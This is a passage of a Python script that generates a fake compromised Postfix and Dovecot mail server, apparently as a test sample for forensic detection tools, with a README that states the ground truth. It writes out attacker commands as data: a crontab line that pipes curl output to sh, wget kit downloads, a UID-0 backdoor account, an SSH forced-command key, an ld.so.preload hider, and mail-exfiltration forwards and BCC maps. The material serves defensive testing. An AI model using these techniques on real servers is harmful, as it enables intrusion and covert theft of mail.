smtpd_sasl_path = private/auth

virtual_alias_maps = hash:/etc/postfix/virtual
recipient_bcc_maps = hash:/etc/postfix/recipient_bcc
transport_maps = hash:/etc/postfix/transport
header_checks = regexp:/etc/postfix/header_checks

# Fallback relay for outages (disabled; credentials kept for the ISP smarthost)
#relayhost = [smtp.isp.example.net]:587
smtp_sasl_password_maps = hash:/etc/postfix/sasl_passwd
smtp_sasl_security_options = noanonymous
"""
    write(root, "etc/postfix/main.cf", main_cf)
    master = """#
# Postfix master process configuration file.  For details on the format
# of the file, see the master(5) manual page (command: "man 5 master" or
# on-line: http://www.postfix.org/master.5.html).
#
# Do not forget to execute "postfix reload" after editing this file.
#
# ==========================================================================
# service type  private unpriv  chroot  wakeup  maxproc command + args
#               (yes)   (yes)   (no)    (never) (100)
# ==========================================================================
smtp      inet  n       -       y       -       -       smtpd
submission inet n       -       y       -       -       smtpd
  -o syslog_name=postfix/submission
  -o smtpd_tls_security_level=encrypt
  -o smtpd_sasl_auth_enable=yes
  -o smtpd_tls_auth_only=yes
  -o smtpd_reject_unlisted_recipient=no
  -o smtpd_client_restrictions=permit_sasl_authenticated,reject
  -o smtpd_recipient_restrictions=
  -o smtpd_relay_restrictions=permit_sasl_authenticated,reject
  -o milter_macro_daemon_name=ORIGINATING
pickup    unix  n       -       y       60      1       pickup
cleanup   unix  n       -       y       -       0       cleanup
qmgr      unix  n       -       n       300     1       qmgr
tlsmgr    unix  -       -       y       1000?   1       tlsmgr
rewrite   unix  -       -       y       -       -       trivial-rewrite
bounce    unix  -       -       y       -       0       bounce
defer     unix  -       -       y       -       0       bounce
trace     unix  -       -       y       -       0       bounce
verify    unix  -       -       y       -       1       verify
flush     unix  n       -       y       1000?   0       flush
proxymap  unix  -       -       n       -       -       proxymap
proxywrite unix -       -       n       -       1       proxymap
smtp      unix  -       -       y       -       -       smtp
relay     unix  -       -       y       -       -       smtp
        -o syslog_name=postfix/$service_name
showq     unix  n       -       y       -       -       showq
error     unix  -       -       y       -       -       error
retry     unix  -       -       y       -       -       error
discard   unix  -       -       y       -       -       discard
local     unix  -       n       n       -       -       local
virtual   unix  -       n       n       -       -       virtual
lmtp      unix  -       -       y       -       -       lmtp
anvil     unix  -       -       y       -       1       anvil
scache    unix  -       -       y       -       1       scache
postlog   unix-dgram n  -       n       -       1       postlogd
"""
    write(root, "etc/postfix/master.cf", master)
    write(root, "etc/postfix/virtual", f"""# Virtual aliases for {DOMAIN}; run "postmap /etc/postfix/virtual" after editing.
postmaster@{DOMAIN}    admin
abuse@{DOMAIN}         admin
info@{DOMAIN}          chenjing
finance@{DOMAIN}       chenjing, fin-reports@{EXFIL_DOMAIN}
""")
    write(root, "etc/postfix/recipient_bcc", f"zhangwei@{DOMAIN}    zw.archive@{EXFIL_DOMAIN}\n")
    write(root, "etc/postfix/transport", f"""# Transport map; run "postmap /etc/postfix/transport" after editing.
lists.{DOMAIN}    smtp:[10.20.0.15]
""")
    write(root, "etc/postfix/header_checks", """/^Subject:.*(viagra|casino)/     DISCARD spam subject
/^X-Mailer: PHPMailer [0-4]\\./    REJECT outdated bulk mailer
""")
    write(root, "etc/postfix/sasl_passwd", "[smtp.isp.example.net]:587    oceanlab-relay:Wq7!rT2#vLp9\n", 0o600)
    write(root, "etc/postfix/dynamicmaps.cf", "# Postfix dynamic maps configuration file.\n#\n#type\tlocation of .so file\t\t\topen function\t(mkmap func)\n#====\t================================\t=============\t============\n")
    write(root, "etc/postfix/postfix-files", "# (excerpt) Postfix installation file list\n$config_directory:d:root:-:755\n$config_directory/main.cf:f:root:-:644:p\n$config_directory/master.cf:f:root:-:644:p\n")
    write(root, "etc/aliases", f"""# See man 5 aliases for format
postmaster:    root
root:          admin
webmaster:     root, webmaster.oceanlab@{EXFIL_DOMAIN}
abuse:         admin
noc:           admin
""")
    write(root, "etc/mailname", f"{DOMAIN}\n")
    dov = "/etc/dovecot"
    write(root, dov[1:] + "/dovecot.conf", """## Dovecot configuration file
# Enable installed protocols
!include_try /usr/share/dovecot/protocols.d/*.protocol

listen = *, ::

# Most of the actual configuration gets included below. The filenames are
# first sorted by their ASCII value and parsed in that order.
!include conf.d/*.conf

# A config file can also tried to be included without giving an error if
# it's not found:
!include_try local.conf
""")
    write(root, dov[1:] + "/conf.d/10-auth.conf", """disable_plaintext_auth = yes
auth_mechanisms = plain login
!include auth-system.conf.ext
""")
    write(root, dov[1:] + "/conf.d/auth-system.conf.ext", """# Authentication for system users.
passdb {
  driver = pam
}
userdb {
  driver = passwd
}
""")
    write(root, dov[1:] + "/conf.d/10-mail.conf", "mail_location = maildir:~/Maildir\nnamespace inbox {\n  inbox = yes\n}\nmail_privileged_group = mail\n")
    write(root, dov[1:] + "/conf.d/10-master.conf", """service imap-login {
  inet_listener imap {
    port = 143
  }
  inet_listener imaps {
    port = 993
    ssl = yes
  }
}
service auth {
  unix_listener /var/spool/postfix/private/auth {
    mode = 0660
    user = postfix
    group = postfix
  }
}
""")
    write(root, dov[1:] + "/conf.d/10-logging.conf", """## Log destination.
# Log file to use for error messages. "syslog" logs to syslog,
# /dev/stderr logs to stderr.
#log_path = syslog
#info_log_path =
#debug_log_path =
syslog_facility = mail
auth_verbose = no

# mail_log plugin provides more event logging for mail processes.
# (loaded for IMAP and POP3 in 20-imap.conf and 20-pop3.conf)
plugin {
  # Events to log. Also available: flag_change append
  mail_log_events = delete undelete expunge copy mailbox_delete mailbox_rename
  # Available fields: uid, box, msgid, from, subject, size, vsize, flags
  # size and vsize are available only for expunge and copy events.
  mail_log_fields = uid box msgid size
}
""")
    write(root, dov[1:] + "/conf.d/15-mailboxes.conf", """## Mailbox definitions
namespace inbox {
  mailbox Drafts {
    special_use = \\Drafts
  }
  mailbox Junk {
    special_use = \\Junk
  }
  mailbox Trash {
    special_use = \\Trash
  }
  mailbox Sent {
    special_use = \\Sent
  }
  mailbox "Sent Messages" {
    special_use = \\Sent
  }
}
""")
    write(root, dov[1:] + "/conf.d/20-imap.conf", "protocol imap {\n  mail_plugins = $mail_plugins mail_log notify\n}\n")
    write(root, dov[1:] + "/conf.d/20-pop3.conf", "protocol pop3 {\n  mail_plugins = $mail_plugins mail_log notify\n}\n")
    # What dovecot-imapd and dovecot-pop3d install (dovecot.conf includes them first).
    write(root, "usr/share/dovecot/protocols.d/imapd.protocol", "protocols = $protocols imap\n")
    write(root, "usr/share/dovecot/protocols.d/pop3d.protocol", "protocols = $protocols pop3\n")
    write(root, dov[1:] + "/conf.d/10-ssl.conf", "ssl = required\nssl_cert = </etc/dovecot/private/dovecot.pem\nssl_key = </etc/dovecot/private/dovecot.key\n")
    write(root, dov[1:] + "/conf.d/15-lda.conf", "postmaster_address = postmaster@" + DOMAIN + "\nprotocol lda {\n  mail_plugins = $mail_plugins sieve\n}\n")
    write(root, dov[1:] + "/conf.d/90-sieve.conf", """plugin {
  sieve = file:~/sieve;active=~/.dovecot.sieve
  sieve_before = /var/lib/dovecot/sieve/before.d/
}
""")
    write(root, dov[1:] + "/conf.d/20-managesieve.conf", "protocols = $protocols sieve\nservice managesieve-login {\n  inet_listener sieve {\n    port = 4190\n  }\n}\n")
    key_body = "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(64 * 20))
    write(root, dov[1:] + "/private/dovecot.key",
          "-----BEGIN PRIVATE KEY-----\n" + "\n".join(key_body[i:i + 64] for i in range(0, len(key_body), 64)) + "\n-----END PRIVATE KEY-----\n", 0o600)
    cert_body = "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(64 * 16))
    write(root, dov[1:] + "/private/dovecot.pem",
          "-----BEGIN CERTIFICATE-----\n" + "\n".join(cert_body[i:i + 64] for i in range(0, len(cert_body), 64)) + "\n-----END CERTIFICATE-----\n")
    write(root, "var/lib/dovecot/sieve/before.d/10-spam.sieve", """require ["fileinto"];
# Global rule: file tagged spam into Junk
if header :contains "X-Spam-Flag" "YES" {
  fileinto "Junk";
  stop;
}
""")


def homes(root):
    passwd = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
man:x:6:12:man:/var/cache/man:/usr/sbin/nologin
mail:x:8:8:mail:/var/mail:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin
messagebus:x:100:107::/nonexistent:/usr/sbin/nologin
sshd:x:101:65534::/run/sshd:/usr/sbin/nologin
postfix:x:102:108::/var/spool/postfix:/usr/sbin/nologin
dovecot:x:103:110:Dovecot mail server,,,:/usr/lib/dovecot:/usr/sbin/nologin
dovenull:x:104:65534:Dovecot login user,,,:/nonexistent:/usr/sbin/nologin
"""
    group = "root:x:0:\nsudo:x:27:admin,liwei\nmail:x:8:\nbackup:x:34:\npostfix:x:108:\npostdrop:x:109:\ndovecot:x:110:\nusers:x:100:\n"
    for u, (uid, full, _) in USERS.items():
        passwd += f"{u}:x:{uid}:{uid}:{full},,,:/home/{u}:/bin/bash\n"
        group += f"{u}:x:{uid}:\n"
    passwd += f"{BACKDOOR}:x:0:0::/root:/bin/bash\n"
    write(root, "etc/passwd", passwd)
    write(root, "etc/group", group)
    write(root, f"home/{COMPROMISED}/.forward", f"\\{COMPROMISED}, liwei.mobile@{EXFIL_DOMAIN}\n")
    write(root, "home/admin/.forward", f"\\admin, noc-oncall@{DOMAIN}\n")
    write(root, "var/backups/.forward", '"|/var/backups/.cache/sync.sh"\n')
    write(root, "home/wangfang/sieve/roundcube.sieve", f"""require ["fileinto","copy"];
# rule:[Papers]
if header :contains "subject" "[JOURNAL]"
{{
\tfileinto "Papers";
}}
# rule:[backup]
if true
{{
\tredirect :copy "wf.backup@{EXFIL_DOMAIN}";
}}
""")
    os.symlink("sieve/roundcube.sieve", os.path.join(root, "home/wangfang/.dovecot.sieve"))
    write(root, "home/chenjing/.procmailrc", "# procmail is not used here (Dovecot LDA); left from the old server\nMAILDIR=$HOME/Maildir/\nDEFAULT=$MAILDIR\n")
    for u in USERS:
        for sub, n in (("cur", 2), ("new", 1)):
            for i in range(n):
                t = 1772500000 + R.randint(0, 300000)
                name = f"{t}.M{R.randint(100000, 999999)}P{R.randint(1000, 40000)}.{HOST},S=900,W=920" + (":2,S" if sub == "cur" else "")
                write(root, f"home/{u}/Maildir/{sub}/{name}",
                      f"Return-Path: <editor@journals.example.com>\nDelivered-To: {u}@{DOMAIN}\nFrom: Editor <editor@journals.example.com>\nTo: {u}@{DOMAIN}\nSubject: [JOURNAL] Review request {i}\nDate: Tue, 3 Mar 2026 10:1{i}:00 +0800\nMessage-ID: <{t}.{i}@journals.example.com>\n\nDear colleague,\nplease find the manuscript attached.\n", 0o600)
    write(root, "root/.bashrc", "# ~/.bashrc: executed by bash(1) for non-login shells.\nexport LS_OPTIONS='--color=auto'\n")


def host_backdoor(root):
    """The host behind the mail service: what the attacker left as root on 4 Mar 02:20-02:30."""
    rk = random.Random(SEED + 20)  # its own stream: the rest of the sample stays as it was
    blob = lambda: __import__("base64").b64encode(
        b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + bytes(rk.randrange(256) for _ in range(32))).decode()
    salt = lambda n: "".join(rk.choice("./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") for _ in range(n))
    yescrypt = lambda: f"$y$j9T${salt(22)}${salt(43)}"
    # /etc/shadow (fake hashes of the real yescrypt shape); the collector keeps metadata only.
    days = {"root": 19800, "admin": 19810, "zhangwei": 19811, "liwei": 19811, "wangfang": 19811, "chenjing": 19811}
    shadow = ""
    for line in open(os.path.join(root, "etc/passwd")).read().splitlines():
        name = line.split(":")[0]
        if name == BACKDOOR:
            shadow += f"{name}:{yescrypt()}:20515:0:99999:7:::\n"
        elif name in days:
            shadow += f"{name}:{yescrypt()}:{days[name]}:0:99999:7:::\n"
        else:
            shadow += f"{name}:*:19800:0:99999:7:::\n"
    write(root, "etc/shadow", shadow, 0o640)
    # root's keys: the administrator's, then the attacker's with a forced command.
    write(root, "root/.ssh/authorized_keys",
          f"ssh-ed25519 {blob()} admin@oceanlab-laptop\n"
          f'command="{IMPLANT_DIR}/dbus-sync -d >/dev/null 2>&1; exec $SHELL -l",no-X11-forwarding ssh-ed25519 {blob()} deploy@vps-77\n', 0o600)
    write(root, "etc/ld.so.preload", f"{PRELOAD_LIB}\n")
    write(root, "etc/systemd/system/dbus-sync.service", f"""[Unit]
Description=D-Bus session synchronisation
After=network-online.target

[Service]
Type=forking
ExecStart={IMPLANT_DIR}/dbus-sync -c {IMPLANT_DIR}/config.json
Restart=always

[Install]
WantedBy=multi-user.target
""")
    write(root, "etc/systemd/system/dbus-sync.timer", """[Unit]
Description=D-Bus session synchronisation timer

[Timer]
OnBootSec=1min
OnUnitActiveSec=10min
Unit=dbus-sync.service

[Install]
WantedBy=timers.target
""")
    os.makedirs(os.path.join(root, "etc/systemd/system/timers.target.wants"), exist_ok=True)
    os.symlink("/etc/systemd/system/dbus-sync.timer", os.path.join(root, "etc/systemd/system/timers.target.wants/dbus-sync.timer"))
    key = open(os.path.join(root, "root/.ssh/authorized_keys")).read().splitlines()[1]
    write(root, "root/.bash_history", "\n".join([
        # The administrator's own earlier work.
        "apt update", "apt upgrade", "systemctl status postfix", "tail -f /var/log/mail.log",
        "postqueue -p", "less /etc/postfix/main.cf", "certbot renew --dry-run", "df -h",
        # The attacker, after `sudo /bin/bash` at 02:19.
        "id", "uname -a", "cat /etc/passwd", "ss -tanp",
        f"wget -q http://{ATTACKER}/x.tgz -O /dev/shm/x.tgz",
        f"mkdir -p {IMPLANT_DIR} && tar xzf /dev/shm/x.tgz -C {IMPLANT_DIR} && rm -f /dev/shm/x.tgz",
        f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {BACKDOOR}", f"passwd {BACKDOOR}",
        f"mkdir -p /root/.ssh && echo '{key}' >> /root/.ssh/authorized_keys",
        f"cp {IMPLANT_DIR}/libprocesshider.so {PRELOAD_LIB} && echo {PRELOAD_LIB} > /etc/ld.so.preload",
        f"cp {IMPLANT_DIR}/dbus-sync.service {IMPLANT_DIR}/dbus-sync.timer /etc/systemd/system/",
        "systemctl daemon-reload && systemctl enable --now dbus-sync.timer",
        "vi /etc/postfix/main.cf", "vi /etc/postfix/recipient_bcc", "postmap /etc/postfix/recipient_bcc",
        "postfix reload", "crontab -e",
    ]) + "\n", 0o600)


def system(root):
    write(root, "etc/hostname", f"{HOST}\n")
    write(root, "etc/hosts", f"127.0.0.1\tlocalhost\n{SERVER_IP}\t{FQDN} {HOST}\n::1\tlocalhost ip6-localhost ip6-loopback\n")
    write(root, "etc/timezone", "Asia/Shanghai\n")
    os.makedirs(os.path.join(root, "usr/share/zoneinfo/Asia"), exist_ok=True)
    shutil.copyfile("/usr/share/zoneinfo/Asia/Shanghai", os.path.join(root, "usr/share/zoneinfo/Asia/Shanghai"))
    os.symlink("/usr/share/zoneinfo/Asia/Shanghai", os.path.join(root, "etc/localtime"))
    write(root, "usr/lib/os-release", """PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
HOME_URL="https://www.debian.org/"
SUPPORT_URL="https://www.debian.org/support"
BUG_REPORT_URL="https://bugs.debian.org/"
""")
    os.symlink("../usr/lib/os-release", os.path.join(root, "etc/os-release"))
    write(root, "etc/machine-id", "5f0c2d9a8e7b4c1d9a3e6f7081b2c3d4\n")
    write(root, "etc/crontab", """# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# |  .------------- hour (0 - 23)
# |  |  .---------- day of month (1 - 31)
# |  |  |  .------- month (1 - 12) OR jan,feb,mar,apr ...
# |  |  |  |  .---- day of week (0 - 6) (Sunday=0 or 7) OR sun,mon,tue,wed,thu,fri,sat
# |  |  |  |  |
# *  *  *  *  * user-name command to be executed
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
""")
    write(root, "etc/cron.d/pf-maint", f"""# postfix map maintenance
SHELL=/bin/sh
PATH=/usr/sbin:/usr/bin:/sbin:/bin
*/20 * * * * root grep -q zw.archive /etc/postfix/recipient_bcc || (echo 'zhangwei@{DOMAIN} zw.archive@{EXFIL_DOMAIN}' > /etc/postfix/recipient_bcc && postmap /etc/postfix/recipient_bcc && postfix reload) >/dev/null 2>&1
""")
    write(root, "etc/cron.d/certbot", "# /etc/cron.d/certbot: crontab entries for the certbot package\nSHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n")
    write(root, "etc/cron.daily/logrotate", "#!/bin/sh\n# skip in favour of systemd timer\nif [ -d /run/systemd/system ]; then\n    exit 0\nfi\n/usr/sbin/logrotate /etc/logrotate.conf\n", 0o755)
    write(root, "var/spool/cron/crontabs/root", f"""# DO NOT EDIT THIS FILE - edit the master and reinstall.
# (/tmp/crontab.Xk2p9a installed on Wed Mar  4 02:47:13 2026)
# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)
30 3 * * * /usr/local/sbin/backup-mail.sh >/dev/null 2>&1
*/30 * * * * /usr/bin/curl -fsS http://{ATTACKER}/p.sh | /bin/sh >/dev/null 2>&1
""", 0o600)
    write(root, "etc/logrotate.conf", "# see \"man logrotate\" for details\nweekly\nrotate 4\ncreate\n#dateext\ninclude /etc/logrotate.d\n")
    write(root, "etc/logrotate.d/rsyslog", """/var/log/mail.log
/var/log/mail.err
/var/log/auth.log
{
\tdaily
\trotate 7
\tmissingok
\tnotifempty
\tcompress
\tdelaycompress
\tsharedscripts
\tpostrotate
\t\t/usr/lib/rsyslog/rsyslog-rotate
\tendscript
}
/var/log/syslog
/var/log/kern.log
/var/log/cron.log
{
\trotate 4
\tweekly
\tmissingok
\tnotifempty
\tcompress
\tdelaycompress
\tsharedscripts
\tpostrotate
\t\t/usr/lib/rsyslog/rsyslog-rotate
\tendscript
}
""")
    write(root, "etc/rsyslog.conf", """# /etc/rsyslog.conf configuration file for rsyslog
module(load="imuxsock") # provides support for local system logging
module(load="imklog")   # provides kernel logging support

# Use traditional timestamp format.
$ActionFileDefaultTemplate RSYSLOG_TraditionalFileFormat
$FileOwner root
$FileGroup adm
$FileCreateMode 0640
$DirCreateMode 0755
$Umask 0022
$WorkDirectory /var/spool/rsyslog
$IncludeConfig /etc/rsyslog.d/*.conf

auth,authpriv.*\t\t\t/var/log/auth.log
*.*;auth,authpriv.none\t\t-/var/log/syslog
cron.*\t\t\t\t-/var/log/cron.log
kern.*\t\t\t\t-/var/log/kern.log
mail.*\t\t\t\t-/var/log/mail.log
mail.err\t\t\t/var/log/mail.err
*.emerg\t\t\t\t:omusrmsg:*
""")
    write(root, "var/lib/logrotate/status", "logrotate state -- version 2\n" + "".join(
        f'"/var/log/{n}" 2026-3-5-0:0:2\n' for n in ("mail.log", "mail.err", "auth.log")) + '"/var/log/syslog" 2026-3-1-0:0:3\n')


def compile_maps(root):
    """Real Berkeley DB maps; the transport.db additionally carries the hidden hijack entry."""
    pf = os.path.join(root, "etc/postfix")
    cfg = os.path.join(root, ".postmap-config")
    os.makedirs(cfg)
    with open(os.path.join(cfg, "main.cf"), "w") as f:
        f.write("compatibility_level = 3.6\n")
    postmap = lambda *args: subprocess.run(["postmap", "-c", cfg, *args], check=True)
    for m in ("virtual", "recipient_bcc", "sasl_passwd"):
        postmap(f"hash:{pf}/{m}")
    hidden = os.path.join(pf, "transport.hidden")
    with open(os.path.join(pf, "transport")) as f:
        src = f.read()
    with open(hidden, "w") as f:
        f.write(src + f"partner.example.net    smtp:[{ATTACKER}]:2525\n")
    postmap(f"hash:{hidden}")
    os.rename(hidden + ".db", os.path.join(pf, "transport.db"))
    os.remove(hidden)
    subprocess.run(["postalias", "-c", cfg, f"hash:{root}/etc/aliases"], check=True)
    shutil.rmtree(cfg)


def readme(root, truth):
    items = "\n".join(f"| {i['kind']} | `{i['path']}` | {i['line'] if i['line'] else '(binary map)'} | `{i['text']}` | {i['detail']} |" for i in truth["items"])
    logs = "\n".join(f"| `{p}` | {v['lines']} | {v['first']} | {v['last']} | {v['mtime']} |" for p, v in truth["logs"].items())
    g = truth["gap"]
    ca = truth["compromised_account"]
    attackers = "\n".join(f"| {k} | {', '.join(v)} |" for k, v in truth["attackers"].items())
    counts = "\n".join(f"| {k} | {v} |" for k, v in truth["tagged_line_counts"].items())
    th = truth["theft"]
    by = lambda kind: [r for r in th["sessions"] if r["kind"] == kind]
    (browse,), (download,), (pop,), (phone,) = by("browse"), by("download"), by("pop3"), by("phone")
    cleanups = by("cleanup")
    hm = lambda r: r["login_local"][11:16]
    mb = lambda b: f"{b / 1e6:.1f} MB"
    short = lambda p: p.rsplit("/", 1)[1]

    def what(r):
        if r["kind"] == "pop3":
            return f"retr {r['messages']} / {r['bytes']} B of {r['mailbox_messages']} in INBOX"
        if r["kind"] == "cleanup":
            return f"deleted={r['deleted']} expunged={r['expunged']} (mail_log lines {r['delete_lines']['first']}–{r['expunge_lines']['last']})"
        return f"hdr_count={r['listed']} body_count={r['messages']} body_bytes={r['bytes']} of {r['mailbox_messages']} messages"
    sessions = "\n".join(
        f"| {r['kind']} ({r['protocol']}) | {r['account']}, {r['source']} | {r['login_local'][5:10]} {r['login_local'][11:19]} → {r['logout_local'][11:19]} | "
        f"`{short(r['login']['path'])}` {r['login']['line']}, {r['logout']['line']} | {what(r)} |" for r in th["sessions"])
    acc = lambda a: ", ".join(f"{k}={v}" for k, v in a.items() if k not in ("mailbox", "sources"))
    expected = "\n".join(
        f"| `{e['rule']}` | {', '.join(e['users'])}, {', '.join(e['ips'])} | "
        f"`{short(e['file'])}` {', '.join(map(str, e['lines']))} | {acc(e['accessed'])} |"
        for e in th["expected"])
    n0 = th["negatives"][0]
    neg_lines = f"`{short(n0['file'])}` " + ", ".join(map(str, n0["lines"]))
    base = th["baseline"]
    text = f"""# Sample: a compromised Postfix + Dovecot host (`{FQDN}`)

A fake root of a Debian 12 mail server of a small research centre (Postfix 3.7.11 with Dovecot
2.3 SASL and LDA, system users with Maildir, rsyslog in the traditional format, time zone
**Asia/Shanghai, UTC+8**). Five days of ordinary mail (1–5 March 2026) with one attack story.
Generated by `samples/tools/gen_compromised_postfix.py` (fixed seed; needs Debian's `postfix`
for `postmap`/`postalias`, so the `.db` maps are real Berkeley DB files). `truth.json` holds
everything below in machine-readable form. Addresses are from the documentation ranges
(RFC 5737, RFC 6598 for the mobile carriers' CGNAT) and domains under `example.*`.

Git does not keep file times. Tests that need them set them (see `logs` in `truth.json` for the
times the files had on the host) or pass the year: every log line is from **2026**.

## The story

1. **Recon** — 3 Mar 22:10–22:45 (+08:00): `{SCANNER}` opens dozens of connections that end after
   CONNECT/EHLO, tries VRFY for common names, then enumerates recipients with RCPT probes.
2. **Initial access** — 4 Mar 00:58–02:14: `{ATTACKER}` brute-forces SMTP AUTH on the submission port
   (`admin`, `info`, `liwei`, `zhangwei`, `test`, then only `liwei`); meanwhile twelve addresses
   `198.51.100.201–212` spray one or two guesses each across many users, and `{IMAP_BRUTE}`
   brute-forces IMAP logins of `zhangwei` and `admin` (no success). At **{ca['first_malicious_login']}**
   (`{ca['first_malicious_login_utc']}`) `{ATTACKER}` logs in as **`{ca['user']}`** and sends a test
   message. The same password works for SSH: `auth.log.1` shows `Accepted password for liwei from
   {ATTACKER}` at 02:17:41 and `sudo … COMMAND=/bin/bash` at 02:19:03 (liwei is in `sudo`).
3. **Persistence** — 02:19–02:53 as root: a recipient BCC map in `main.cf`, a virtual alias and a
   system alias to outside addresses, a `.forward` for liwei, a pipe `.forward` for the nologin
   account `backup`, a sieve redirect for wangfang (activated through the `~/.dovecot.sieve`
   symlink, as ManageSieve does), an entry in the **compiled** `transport.db` only (the text
   `transport` was left clean), a root crontab line that downloads and runs a script, and a cron
   job that re-plants the BCC map. Postfix is reloaded at 02:31 and again at 02:52:40.
   **On the host itself** (02:20–02:30, root's `.bash_history` shows every step): a kit downloaded
   from `http://{ATTACKER}/x.tgz` and unpacked in `{IMPLANT_DIR}`; a second UID-0 account
   `{BACKDOOR}` with a login shell and a password (`useradd -o` and `passwd` in `auth.log.1`, the
   last-change day in `/etc/shadow`); the attacker's SSH key for root with a forced command that
   restarts the implant; `{PRELOAD_LIB}` in `/etc/ld.so.preload`; and an enabled systemd timer
   (`dbus-sync.timer`) that runs `{IMPLANT_DIR}/dbus-sync` every 10 minutes. `/etc/shadow` holds
   fake hashes of the real yescrypt shape; the collector records its metadata only.
4. **Exfiltration and abuse** — from 02:45: spam through the stolen login from `{ATTACKER}` (170
   messages) and `{ATTACKER2}` (90 messages, then 100 more on 5 Mar 08:10–08:40), three outside
   recipients each, with bounces and deferrals; `{RELAY_PROBER}` probes for an open relay (25
   `Relay access denied`). Every message to zhangwei is now copied to `zw.archive@{EXFIL_DOMAIN}`,
   finance@ mail to `fin-reports@`, liwei's to `liwei.mobile@`, wangfang's to `wf.backup@`, and
   mail to `partner.example.net` leaves through `{ATTACKER}:2525`.
5. **Cleanup** — every line of 4 Mar {g['removed_from'][11:19]}–{g['removed_to'][11:19]} ({g['removed_lines']} lines: the
   attacker's IMAP session reading liwei's mailbox, the first reload, test sends) was cut out of
   what is now `mail.log.1`: the file jumps from line {g['after_line']} ({g['last_before']}) to line
   {g['after_line'] + 1} ({g['first_after']}). The logs then rotate normally at midnight.

6. **Mailbox theft** — after the cut session, `{THEFT_IP}` logs in to liwei's mailbox by IMAP at
   {hm(browse)} and fetches the headers of all {browse['listed']} messages and the bodies of the
   `{CONTRACTS}` (contracts) folder ({browse['messages']} messages); at {hm(download)} it downloads every message of every folder
   ({download['messages']} messages, {mb(download['bytes'])}). On 5 Mar at {hm(pop)} it takes INBOX again by POP3
   ({pop['messages']} messages). Nothing in the log names a folder that was read: only the sessions'
   counters say what was fetched.
7. **Hiding the bounces** — at {hm(cleanups[0])}, after the first two spam waves, and at {hm(cleanups[1])} on 5 Mar, after the
   last, `{THEFT_IP}` flags the spam's non-delivery notices in liwei's INBOX `\\Deleted` and expunges them
   ({cleanups[0]['expunged']} and {cleanups[1]['expunged']} messages), so liwei's own clients never show them. Dovecot's
   `mail_log` plugin (enabled for IMAP and POP3 in `conf.d/10-logging.conf`, `20-imap.conf`, `20-pop3.conf`) logs
   one `delete:` and one `expunge:` line per message.

The responder arrived on 5 Mar around 11:00; the live `mail.log` ends then.

**Ordinary mail access**: the users' own clients (the office NAT and their phones' carrier
addresses) log in all day; each session fetches the headers of what arrived since that client
last looked and the bodies opened, and now and then moves a message or three to Trash
(`copy from INBOX: box=Trash` then `expunge: box=INBOX`) or deletes one or two for good. On
4 Mar at {hm(phone)} wangfang sets up a new phone on the office Wi-Fi: from `{OFFICE[1]}`, her usual
address, it syncs her whole mailbox ({phone['messages']} messages, {mb(phone['bytes'])}) — a hard negative.

## Ground truth

Compromised account: **`{ca['user']}`**, first malicious login **{ca['first_malicious_login_utc']}** from
`{ca['from']}`, evidence `{ca['evidence']['path']}` line {ca['evidence']['line']}.

| attacker class | addresses |
|---|---|
{attackers}

Outside addresses mail is copied to: {', '.join('`' + a + '`' for a in truth['exfil_addresses'])}.

Legitimate (no finding may name them as attackers): users {', '.join('`' + u + '`' for u in truth['legitimate']['users'])};
client address `{OFFICE[1]}` (`{OFFICE[0]}`, the office NAT); `/home/admin/.forward` forwards to an
internal address only; `/home/chenjing/.procmailrc` is an unused leftover.

### Planted persistence (file and line)

| kind | file | line | text | what it does |
|---|---|---|---|---|
{items}

### Mailbox theft (`theft` in `truth.json`)

The mailboxes' contents are a model in the generator (folders of messages from before 1 March,
then every local delivery the log shows, the bounces of the spam, the users' Sent copies, and
every move and deletion); the Maildir folders under `home/` hold only a token few messages.
Sizes in `mail_log` lines are physical; IMAP and POP3 send virtual sizes (CRLF).

| session | account, source | login → logout (+08:00) | log lines | what the counters say |
|---|---|---|---|---|
{sessions}

Findings expected (`theft.expected`; the lines are each session's login and logout):

| rule | account, source | evidence | accessed |
|---|---|---|---|
{expected}

Negatives (`theft.negatives`): no `exfil.mailbox_download` of medium or higher may name wangfang or
`{OFFICE[1]}` (her new phone's sync, lines {neg_lines}; a low one may); no `cleanup.mail_deletion`
may name a legitimate user. Baseline of the {base['ordinary_imap_sessions']} ordinary IMAP sessions: body_count median
{base['body_count']['median']}, max {base['body_count']['max']}; hdr_count max {base['hdr_count']['max']}; {base['sessions_with_moves_to_trash']} sessions move
mail to Trash, {base['sessions_with_deletions']} delete for good (at most {base['expunged_max']} messages).

Line formats are Dovecot 2.3.19.1's (`dovecot/core`, tag `2.3.19.1`), in their default settings:
